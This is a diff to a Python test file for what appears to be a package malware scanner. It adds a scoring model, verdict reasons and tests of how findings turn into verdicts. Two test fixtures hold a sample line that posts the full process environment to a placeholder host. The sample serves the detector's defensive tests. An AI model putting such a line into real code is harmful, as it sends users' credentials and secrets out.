@@ -14,6 +14,8 @@ from wheelmark.scan import (
     Context,
     DecodedLayer,
     Finding,
+    Model,
+    Reason,
     Report,
     Rule,
     RuleSet,
@@ -25,11 +27,13 @@ from wheelmark.scan import (
     Verdict,
 )
 from wheelmark.scan.facts import Facts
+from wheelmark.scan.features import Features
 from wheelmark.scan.rule import Evidence
 from wheelmark.scan.sarif import to_sarif
-from wheelmark.scan.verdict import score_of, verdict_of
+from wheelmark.scan.verdict import joined_score, score_of, verdict_of
 
-FIELDS = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset"}
+FIELDS = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset", "model"}
+REASON_FIELDS = {"what", "effect", "member", "line", "needed"}
 FINDING_FIELDS = {"rule", "severity", "member", "line", "message", "evidence"}
 
 
@@ -77,6 +81,9 @@ findings = st.builds(
     context=st.sampled_from(Context),
     flow=st.lists(steps, max_size=3).map(tuple),
 )
+reasons = st.builds(
+    Reason, what=text, effect=st.floats(0, 1), member=text, line=st.integers(0, 10**6), needed=st.booleans()
+)
 reports = st.builds(
     Report,
     file=text,
@@ -88,6 +95,8 @@ reports = st.builds(
     ruleset=text,
     incomplete_reason=st.none() | text,
     layers=st.lists(layers, max_size=2).map(tuple),
+    model=text,
+    reasons=st.lists(reasons, max_size=3).map(tuple),
 )
 
 
@@ -102,10 +111,19 @@ def test_report_survives_json(report: Report) -> None:
 def test_json_has_exactly_the_fixed_fields() -> None:
     report = scan_import("import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))")
     document = json.loads(report.to_json())
-    assert set(document) == FIELDS
+    assert set(document) == FIELDS | {"reasons"}
+    assert all(set(reason) == REASON_FIELDS for reason in document["reasons"])
     assert all(set(finding) == FINDING_FIELDS for finding in document["findings"])
-    incomplete = json.loads(replace(report, incomplete_reason="why").to_json())
+    incomplete = json.loads(replace(report, incomplete_reason="why", reasons=()).to_json())
     assert set(incomplete) == FIELDS | {"incomplete_reason"}
+
+
+def test_report_of_a_time_before_the_model_is_still_read() -> None:
+    document = json.loads(scan_import("import os, requests\nrequests.post('https://x.example.invalid')").to_json())
+    del document["model"]
+    document.pop("reasons", None)
+    report = Report.from_json(json.dumps(document).encode())
+    assert (report.model, report.reasons) == ("", ())
 
 
 @pytest.mark.parametrize("line", [b"", b"null", b"[]", b"{}", b'{"file": 1}', b'"x"', b"\xff"])
@@ -125,15 +143,57 @@ def test_many_findings_of_one_rule_count_once() -> None:
     assert score_of([a_finding()] * 50) == score_of([a_finding()])
 
 
-def test_no_number_of_lesser_findings_makes_a_file_malicious() -> None:
+def a_model(**changes: object) -> Model:
+    model = Model(
+        version="0" * 12,
+        features=("flow/secret/send/install",),
+        trees=((0, 0, -4_000_000, 0),),
+        calibration=((-4_000_000, 100), (0, 7000), (4_000_000, 9900)),
+        suspicious=0.5,
+        malicious=0.9,
+        rules={"known": 1, "loud": 1},
+        imprecise=frozenset({"loud"}),
+    )
+    return replace(model, **changes)  # type: ignore[arg-type]  # fields of Model
+
+
+def verdict_on(*findings: Finding, seen: tuple[str, ...] = (), complete: bool = True) -> Verdict:
+    features = Features()
+    for name in seen:
+        features.note(name, 1)
+    return verdict_of(joined_score(findings, features, a_model()), a_model(), complete=complete)
+
+
+def test_no_number_of_lesser_findings_of_unknown_rules_makes_a_file_malicious() -> None:
     many = [a_finding(f"rule-{number}", Severity.HIGH) for number in range(20)]
-    assert verdict_of(many, complete=True) is Verdict.SUSPICIOUS
-    assert verdict_of([a_finding(severity=Severity.CRITICAL)], complete=True) is Verdict.MALICIOUS
+    assert verdict_on(*many) is Verdict.SUSPICIOUS
+    assert verdict_on(a_finding(severity=Severity.LOW)) is Verdict.BENIGN
+
+
+def test_critical_finding_decides_unless_its_rule_was_measured_to_be_imprecise() -> None:
+    assert verdict_on(a_finding("of-a-plug-in", Severity.CRITICAL)) is Verdict.MALICIOUS
+    assert verdict_on(a_finding("known", Severity.CRITICAL)) is Verdict.MALICIOUS
+    assert verdict_on(a_finding("loud", Severity.CRITICAL)) is Verdict.BENIGN
+
+
+def test_model_weighs_what_known_rules_and_facts_say() -> None:
+    assert verdict_on(a_finding("known", Severity.HIGH)) is Verdict.BENIGN
+    assert verdict_on(a_finding("known", Severity.HIGH), seen=("flow/secret/send/install",)) is Verdict.SUSPICIOUS
+
+
+def test_circumstances_alone_are_no_case() -> None:
+    model = a_model(trees=(9_000_000,))
+    features = Features()
+    features.note("rules/high", 3)
+    assert joined_score([], features, model) == 0
+    features.note("act/send over the network/install", 1)
+    assert joined_score([], features, model) == 0.99
 
 
 def test_incomplete_scan_is_never_benign() -> None:
-    assert verdict_of([], complete=False) is Verdict.INCOMPLETE
-    assert verdict_of([a_finding()], complete=False) is Verdict.INCOMPLETE
+    assert verdict_on(complete=False) is Verdict.INCOMPLETE
+    assert verdict_on(a_finding(), complete=False) is Verdict.INCOMPLETE
+    assert verdict_on(a_finding("known", Severity.CRITICAL), complete=False) is Verdict.MALICIOUS
 
 
 def test_rule_in_evaluation_reports_but_does_not_count() -> None:
@@ -156,13 +216,21 @@ def test_ruleset_version_changes_with_a_rule_its_version_and_its_state() -> None
         RuleSet((a_rule(version=2),)).version,
         RuleSet((a_rule(), a_rule(id="another"))).version,
         RuleSet((a_rule(), a_rule(id="another", state=RuleState.EVALUATION))).version,
+        RuleSet((a_rule(),), a_model()).version,
     }
-    assert len(versions) == 4
+    assert len(versions) == 5
     assert RuleSet((a_rule(), a_rule(id="off", state=RuleState.DISABLED))).version == RuleSet((a_rule(),)).version
 
 
 @pytest.mark.parametrize(
-    "rules", [(), (a_rule(state=RuleState.DISABLED),), (a_rule(), a_rule()), (a_rule(id="No Good"),)]
+    "rules",
+    [
+        (),
+        (a_rule(state=RuleState.DISABLED),),
+        (a_rule(), a_rule()),
+        (a_rule(id="No Good"),),
+        (a_rule(id="taken-together"),),
+    ],
 )
 def test_ruleset_that_would_lie_is_a_mistake(rules: tuple[Rule, ...]) -> None:
     with pytest.raises(RuntimeError, match="expected"):
